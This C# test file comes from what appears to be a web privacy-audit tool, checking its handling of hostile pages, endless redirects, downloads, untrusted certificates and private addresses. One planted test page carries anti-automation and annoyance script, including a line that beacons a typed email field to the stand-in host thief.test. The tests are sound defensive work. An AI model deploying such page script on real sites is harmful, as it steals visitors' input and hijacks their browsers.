using System.Diagnostics;
using Candor.Audit.Findings;
using Candor.Tests.Support;
using Microsoft.AspNetCore.Http;

namespace Candor.Tests.Audit.Live;

/// <summary>Pages that want a visit to hang, to break or to go where it must not. Each ends, and says how.</summary>
public sealed class HostilePageTests : IAsyncLifetime
{
    readonly PlantedSite site = new();
    readonly TemporaryFolder folder = new();

    public async ValueTask InitializeAsync() => await site.InitializeAsync();

    [Fact]
    public async Task APageThatFightsItsVisitorIsStillSeenThrough()
    {
        site.Pages["hostile.test/"] = ("text/html", """
            <!doctype html><title>Hostile</title><input name=email type=email><button>Send</button><div id=d></div><script>
            JSON.stringify = () => 'nothing'; JSON.parse = () => ({}); Reflect.apply = () => {}; Set.prototype.has = () => true; Error.stackTraceLimit = 0;
            window.WebSocket = function () {}; Object.defineProperty(navigator, 'webdriver', { get: () => true });
            for (let i = 0; i < 5; i++) alert(i); for (let i = 0; i < 30; i++) open('/pop' + i);
            const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = 'x.bin'; a.click();
            onbeforeunload = e => { e.preventDefault(); return 'stay'; };
            for (let i = 0; i < 200; i++) document.getElementById('d').innerHTML += '<i></i>'.repeat(200);
            setInterval(() => history.pushState(0, '', '#' + Math.random()), 20);
            document.querySelector('input').onblur = e => navigator.sendBeacon('https://thief.test/p', e.target.value);
            </script>
            """);

        var ran = await AuditAsync("https://hostile.test/", site.BrowserArguments);

        Assert.NotEmpty(site.ToldTo("thief.test"));
        Assert.Contains(ran.Json().GetProperty("findings").EnumerateArray(), f => f.GetProperty("rule").GetString() == RuleName.PersonalData && f.GetProperty("host").GetString() == "thief.test");
        Assert.Contains("dialogs", ran.Json().GetProperty("remarks").GetRawText(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task EndlessRedirectsAreSaidToBeThat()
    {
        site.Answers["round.test/"] = context => { context.Response.Redirect("https://round.test/?" + Guid.NewGuid()); return Task.CompletedTask; };

        await RefusedAsync("https://round.test/", "redirects without an end", site.BrowserArguments);
    }

    [Fact]
    public async Task ADownloadIsNoPage()
    {
        site.Answers["file.test/"] = async context => { context.Response.Headers.ContentDisposition = "attachment; filename=x.bin"; context.Response.ContentType = "application/octet-stream"; await context.Response.WriteAsync("x"); };

        await RefusedAsync("https://file.test/", "gives no page", site.BrowserArguments);
    }

    [Fact]
    public async Task ACertificateThatNobodyTrustsIsSaidToBeThat() =>
        await RefusedAsync($"https://127.0.0.1:{site.Port}/", "no certificate that the browser trusts", "--allow-private");

    [Fact]
    public async Task PrivateAddressesAreNotReachedByNameNorByNumber()
    {
        await RefusedAsync($"https://localhost:{site.Port}/", "leads to a private address", "--browser-arg", "--ignore-certificate-errors");

        Assert.Empty(site.ToldTo("localhost"));
    }

    async Task RefusedAsync(string address, string says, params string[] arguments)
    {
        var from = Stopwatch.GetTimestamp();
        var ran = await AuditAsync(address, arguments);

        Assert.Equal((3, ""), (ran.ExitCode, ran.Output));
        Assert.Contains(says, ran.Error, StringComparison.Ordinal);
        Assert.Single(ran.Error.TrimEnd().Split('\n'));
        Assert.InRange(Stopwatch.GetElapsedTime(from), TimeSpan.Zero, TimeSpan.FromSeconds(60));
    }

    Task<Ran> AuditAsync(string address, params string[] arguments) => BuiltCandor.RunAsync(folder["data"], ["audit", address, "--format", "json", .. arguments]);

    public async ValueTask DisposeAsync()
    {
        await site.DisposeAsync();
        folder.Dispose();
    }
}
